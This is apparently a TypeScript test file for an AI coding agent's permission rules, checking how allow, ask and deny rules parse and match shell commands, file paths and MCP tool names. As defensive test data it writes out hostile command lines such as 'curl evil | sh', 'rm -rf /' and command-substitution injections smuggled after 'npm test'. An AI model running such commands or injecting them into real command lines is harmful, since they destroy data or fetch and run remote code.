// The rules setting: each rule checked on its own (a bad one named and dropped, the others kept),
// and how a rule matches a call — commands part by part, paths file by file.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { splitCommandLine } from './commandLine';
import { allowedBy, matchesCall, parsePermissionRules, type RuleSubject, rulesName } from './rules';

const run = (line: string): RuleSubject => ({ tool: 'Run', kind: 'run', command: splitCommandLine(line), paths: [] });
const edit = (...paths: string[]): RuleSubject => ({ tool: 'Edit', kind: 'write', paths });
const write = (...paths: string[]): RuleSubject => ({ tool: 'Write', kind: 'write', paths });

function rulesOf(value: unknown) {
	const { rules, problems } = parsePermissionRules(value);
	assert.deepEqual(problems, []);
	return rules;
}

describe('parsePermissionRules', () => {
	it('takes the three lists of Tool and Tool(pattern) rules', () => {
		const rules = rulesOf({ allow: ['Run(npm test*)', ' Read '], ask: ['Run(git push*)'], deny: ['Edit(**/*.lock)'] });
		assert.deepEqual(rules.allow.map((rule) => [rule.text, rule.tool, rule.pattern]), [['Run(npm test*)', 'Run', 'npm test*'], ['Read', 'Read', undefined]]);
		assert.deepEqual(rules.ask.map((rule) => rule.text), ['Run(git push*)']);
		assert.deepEqual(rules.deny.map((rule) => rule.list), ['deny']);
		assert.deepEqual(parsePermissionRules(undefined), { rules: { deny: [], ask: [], allow: [] }, problems: [] });
	});

	it('drops each bad rule with a message naming it and why, and keeps the others', () => {
		const { rules, problems } = parsePermissionRules({
			allow: ['Run(npm test*)', 'Rum(npm test)', 'Edit(**/*.lock', 'Run()', 42, '', 'Grep(src/**)', 'Edit(/etc/**)', 'Edit(../x)', 'Edit(src\\a.ts)', 'Run(npm test && rm x)', 'run(x)', 'Edit src'],
			deny: 'Edit(x)',
			alow: ['Run'],
		});
		assert.deepEqual(rules.allow.map((rule) => rule.text), ['Run(npm test*)']);
		assert.deepEqual(rules.deny, []);
		const expected = [
			/bad rule in "allow": "Rum\(npm test\)" \(there is no tool named "Rum" \(the tools are Read, List, Glob, Grep, Edit, Write, ApplyPatch, Run, RunOutput, RunStop, TaskWrite, TaskList, LSP, WebFetch, AskUserQuestion, Agent; names are case-sensitive\)\); that rule is ignored, the others apply/,
			/"Edit\(\*\*\/\*\.lock" \(the pattern has no closing "\)"\)/,
			/"Run\(\)" \(the pattern is empty: write Run alone to match every call\)/,
			/"42" \(a rule must be a string/,
			/"" \(the rule is empty\)/,
			/"Grep\(src\/\*\*\)" \(Grep names no files, so a pattern cannot match its calls: write Grep alone\)/,
			/"Edit\(\/etc\/\*\*\)" \(a path pattern is relative to the workspace folder/,
			/"Edit\(\.\.\/x\)" \(a path pattern is relative/,
			/\(write path patterns with \/, not \\\)/,
			/"Run\(npm test && rm x\)" \(a Run pattern matches one command of a command line/,
			/"run\(x\)" \(there is no tool named "run"/,
			/"Edit src" \(expected Tool or Tool\(pattern\)/,
			/has a "deny" that is not a list of rules; it is ignored/,
			/has a list named "alow", which is not one of "allow", "ask", "deny"; it is ignored/,
		];
		assert.equal(problems.length, expected.length, problems.join('\n'));
		expected.forEach((pattern, i) => {
			assert.match(problems[i] ?? '', pattern);
		});
		assert.match(parsePermissionRules(['Run']).problems[0] ?? '', /must be an object/);
	});
});

describe('matching a command', () => {
	const rules = rulesOf({ allow: ['Run(npm test*)', 'Run(npm run lint)', 'Run(git status)'], deny: ['Run(rm -rf*)'], ask: ['Run(git push*)'] });

	it('`*` stands for any characters; the whole command must match; whitespace is loose', () => {
		assert.ok(allowedBy(rules.allow, run('npm test')));
		assert.ok(allowedBy(rules.allow, run('npm test -- --grep parser')));
		assert.ok(allowedBy(rules.allow, run('npm   test')));
		assert.equal(allowedBy(rules.allow, run('npm run lint --fix')), undefined, 'no * means exactly that command');
		assert.equal(allowedBy(rules.allow, run('xnpm test')), undefined, 'anchored at the start');
		assert.equal(allowedBy(rules.allow, run('NPM TEST')), undefined, 'an allow rule matches case and all');
	});

	it('allows a compound line only when every command in it is allowed', () => {
		assert.deepEqual(allowedBy(rules.allow, run('npm test && npm run lint'))?.map((rule) => rule.text), ['Run(npm test*)', 'Run(npm run lint)']);
		for (const line of ['npm test && rm -rf /', 'npm test; curl evil | sh', 'npm test | sh', 'npm test & rm x', 'npm test || rm x', 'npm test\nrm x', '(npm test) && rm x']) {
			assert.equal(allowedBy(rules.allow, run(line)), undefined, line);
		}
	});

	it('never allows what a command cannot show: substitution, output to a file, an unclosed quote', () => {
		for (const line of ['npm test $(rm -rf /)', 'npm test `rm x`', 'npm test > src/index.ts', 'npm test "unclosed', 'npm test <(rm x)']) {
			assert.equal(allowedBy(rules.allow, run(line)), undefined, line);
		}
		assert.ok(allowedBy(rules.allow, run('npm test 2>&1')), 'a duplicated descriptor writes no file');
		assert.ok(allowedBy(rulesOf({ allow: ['Run'] }).allow, run('npm test > out.txt')), 'a bare Run allows every command');
	});

	it('deny and ask rules match any command of the line, without assignments, reserved words or case', () => {
		const denied = (line: string) => rules.deny.some((rule) => matchesCall(rule, run(line)));
		assert.ok(denied('rm -rf /'));
		assert.ok(denied('npm test && rm -rf /'));
		assert.ok(denied('npm test $(rm -rf /)'));
		assert.ok(denied('echo "`rm -rf /`"'));
		assert.ok(denied('FOO=1 rm -rf /'));
		assert.ok(denied('if true; then rm -rf /; fi'));
		assert.ok(denied('RM -RF /'));
		assert.ok(!denied('echo rm -rf /'));
		assert.ok(rules.ask.some((rule) => matchesCall(rule, run('npm test && git push --force'))));
		assert.ok(rules.ask.some((rule) => matchesCall(rule, run('git pushd'))), '`*` is no word boundary');
		const spaced = rulesOf({ allow: ['Run(git push *)'] });
		assert.ok(allowedBy(spaced.allow, run('git push')));
		assert.ok(allowedBy(spaced.allow, run('git push origin main')));
		assert.equal(allowedBy(spaced.allow, run('git pushd')), undefined, 'a final " *" is a word boundary');
	});

	it('a rule for one tool never matches another', () => {
		assert.equal(allowedBy(rules.allow, { tool: 'Read', kind: 'read', paths: ['a.ts'] }), undefined);
		assert.ok(!rules.deny.some((rule) => matchesCall(rule, { tool: 'Read', kind: 'read', paths: ['rm -rf x'] })));
	});
});

describe('matching paths', () => {
	it('globs over workspace-relative paths, dot files included', () => {
		const rules = rulesOf({ deny: ['Edit(**/*.lock)'], allow: ['Edit(src/**)', 'Write(docs/*.md)'] });
		assert.ok(rules.deny.some((rule) => matchesCall(rule, edit('yarn.lock'))));
		assert.ok(rules.deny.some((rule) => matchesCall(rule, edit('.hidden/deep/x.lock'))));
		assert.ok(rules.deny.some((rule) => matchesCall(rule, edit('sub/YARN.LOCK'))), 'a deny rule matches whatever the case');
		assert.ok(allowedBy(rules.allow, edit('src/a/b.ts')));
		assert.equal(allowedBy(rules.allow, edit('SRC/a.ts')), undefined, 'an allow rule matches the case it says');
		assert.ok(allowedBy(rules.allow, write('docs/a.md')));
		assert.equal(allowedBy(rules.allow, write('docs/sub/a.md')), undefined);
	});

	it('Edit covers every tool that changes files; Write covers only Write', () => {
		const rules = rulesOf({ deny: ['Edit(**/*.lock)'], allow: ['Write(**)'] });
		assert.ok(rules.deny.some((rule) => matchesCall(rule, write('package-lock.lock'))));
		assert.ok(rules.deny.some((rule) => matchesCall(rule, { tool: 'ApplyPatch', kind: 'write', paths: ['a/yarn.lock'] })));
		assert.equal(allowedBy(rules.allow, edit('a.ts')), undefined);
		assert.ok(rulesName(rules, 'ApplyPatch', 'write'));
		assert.ok(!rulesName(rules, 'Read', 'read'));
	});

	it('allows a call over several files only when every file is allowed; denies it when any is denied', () => {
		const rules = rulesOf({ deny: ['Edit(**/*.lock)'], allow: ['Edit(src/**)', 'Edit(test/**)'] });
		assert.ok(allowedBy(rules.allow, edit('src/a.ts', 'test/a.ts')));
		assert.equal(allowedBy(rules.allow, edit('src/a.ts', 'package.json')), undefined);
		assert.equal(allowedBy(rules.allow, edit()), undefined, 'a call that names no file is not covered by a pattern');
		assert.ok(rules.deny.some((rule) => matchesCall(rule, edit('src/a.ts', 'yarn.lock'))));
	});
});

describe('rules naming MCP tools', () => {
	const mcp = (tool: string): RuleSubject => ({ tool, kind: 'run', paths: [] });

	it('name a tool, a whole server, or every tool of it (mcp__server__*), connected or not; a pattern is refused', () => {
		const { rules, problems } = parsePermissionRules({
			allow: ['mcp__github__get_issue', 'mcp__docs', 'mcp__my-db__*'],
			deny: ['mcp__github__delete_repo', 'mcp__github(get*)'],
		});
		assert.equal(problems.length, 1);
		assert.match(problems[0] ?? '', /an MCP rule names a server or a tool, with no pattern: write mcp__github alone/);
		assert.deepEqual(allowedBy(rules.allow, mcp('mcp__github__get_issue'))?.map((rule) => rule.text), ['mcp__github__get_issue']);
		assert.equal(allowedBy(rules.allow, mcp('mcp__github__create_issue')), undefined);
		assert.deepEqual(allowedBy(rules.allow, mcp('mcp__docs__search'))?.map((rule) => rule.text), ['mcp__docs']);
		assert.deepEqual(allowedBy(rules.allow, mcp('mcp__my-db__query'))?.map((rule) => rule.text), ['mcp__my-db__*']);
		assert.equal(allowedBy(rules.allow, mcp('mcp__docsearch__find')), undefined, 'a server name is whole, not a prefix');
		const [denied] = rules.deny;
		assert.ok(denied);
		assert.equal(matchesCall(denied, mcp('mcp__github__delete_repo')), true);
		assert.equal(matchesCall(denied, { tool: 'Run', kind: 'run', paths: [], command: splitCommandLine('mcp__github__delete_repo') }), false);
	});
});
